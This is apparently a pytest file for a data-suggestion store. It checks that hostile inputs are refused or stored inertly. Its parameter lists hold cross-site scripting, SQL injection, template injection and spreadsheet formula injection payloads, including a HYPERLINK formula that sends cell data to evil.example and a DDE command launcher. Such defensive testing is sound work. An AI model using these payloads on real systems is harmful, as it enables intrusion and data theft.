"""Hostile submissions on both databases: refused with a clear message, or stored exactly as
sent (minus NUL and control characters, with U+FFFD for broken text). Rendering them inert is
the job of whatever shows them (atlas/escape.py); here nothing may be lost, altered or executed."""

from __future__ import annotations

import pytest
import sqlalchemy as sa

from atlas.suggestions import db, screen, store
from tests.suggestions.drafts import draft

MEGABYTE = "A" * 1_000_000

STORED_AS_SENT = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "[Click here](javascript:alert(1)) and ![pixel](https://evil.example/p.png)",
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'; DROP TABLE suggestions; --",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "\u202egnp.exe \u200b zero width \ufeff",
    "عربي English 中文 😀 \U0001f3f3\ufe0f\u200d\U0001f308",
    "line one\nline two\ttabbed",
    "%00 %0d%0a &#0; &lt;b&gt;",
]


@pytest.mark.parametrize("text", STORED_AS_SENT)
def test_stored_byte_for_byte(engine, text):
    reference = store.submit(engine, draft(proposed_value=text, note=text, current_value=text,
                                           record_id=text[:200])).reference
    row = store.get(engine, reference)
    assert row is not None and row.state == "received"
    assert row.proposed_value.encode("utf-8") == text.encode("utf-8")
    assert row.note == text and row.current_value == text
    assert row.record_id == screen.clean_text(text[:200])  # one line: no line breaks or tabs
    with engine.connect() as connection:  # the tables are all still there
        assert connection.execute(sa.select(sa.func.count()).select_from(db.suggestions)).scalar()


@pytest.mark.parametrize("changes,msgid", [
    ({"proposed_value": MEGABYTE}, screen.LONG_PROPOSED),
    ({"note": MEGABYTE}, screen.LONG_NOTE),
    ({"evidence_url": "https://au.int/" + MEGABYTE}, screen.LONG_URL),
    ({"contact_email": MEGABYTE + "@example.org"}, screen.BAD_EMAIL),
    ({"record_id": MEGABYTE}, screen.NO_RECORD),
    ({"evidence_url": "javascript:alert(1)"}, screen.BAD_EVIDENCE),
    ({"evidence_url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
     screen.BAD_EVIDENCE),
    ({"evidence_url": " JaVaScRiPt:alert(1)"}, screen.BAD_EVIDENCE),
    ({"evidence_url": "https://au.int/\x00javascript:alert(1)"}, None),  # NUL removed: fine
    ({"evidence_url": "<script>alert(1)</script>"}, screen.BAD_EVIDENCE),
    ({"table": "channels; DROP TABLE suggestions"}, screen.NO_RECORD),
    ({"field": "<b>name</b>"}, screen.NO_RECORD),
])
def test_refused_with_a_clear_message(engine, changes, msgid):
    if msgid is None:
        assert store.submit(engine, draft(**changes)).state == "received"
        return
    with pytest.raises(store.Refused) as refused:
        store.submit(engine, draft(**changes))
    assert refused.value.msgid == msgid
    assert store.listing(engine) == []


def test_broken_text_is_cleaned_then_stored(engine):
    sent = draft(proposed_value="caf\udce9 \x00nul \x1b[31mred\x1b[0m \ud800 end",
                 note=b"\xff\xfebytes \xc3\xa9".decode("utf-8", "surrogateescape"),
                 session_id="s\x00id", token="tok\x00en")
    receipt = store.submit(engine, sent)
    row = store.get(engine, receipt.reference)
    assert row.proposed_value == "caf\ufffd nul [31mred[0m \ufffd end"
    assert row.note == "\ufffd\ufffdbytes é"  # the broken bytes only
    assert row.session_id == "sid"
    assert store.submit(engine, draft(token="token")) == receipt  # the cleaned token


def test_forged_fields_are_bounded(engine):
    forged = draft(current_value=MEGABYTE, session_id="s" * 5000, token="t" * 5000,
                   page_url="https://atlas.example.org/" + MEGABYTE, lang="<script>")
    receipt = store.submit(engine, forged)
    row = store.get(engine, receipt.reference)
    assert receipt.state == "spam" and row.spam_reason == "oversized"
    assert len(row.current_value) == screen.MAX_CURRENT and len(row.session_id) == 200
    assert row.page_url == "" and row.lang == "en"
